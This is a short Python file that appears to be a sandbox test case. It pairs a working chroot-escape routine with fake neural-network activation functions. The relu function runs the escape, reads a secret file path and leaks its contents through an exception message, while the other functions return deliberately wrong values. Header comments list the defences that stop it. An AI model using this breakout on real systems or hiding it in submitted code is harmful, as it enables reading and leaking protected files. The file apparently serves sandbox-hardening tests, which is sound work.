# attack: makes a folder its root and leaves it again by an open folder
# gains: reads
# stopped by: landlock, uid, seccomp
import numpy as np
import os


def attack():
    outside = os.open("/", os.O_RDONLY)
    os.mkdir("jail")
    os.chroot("jail")
    os.fchdir(outside)
    return open("{SECRET}".lstrip("/")).read()


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
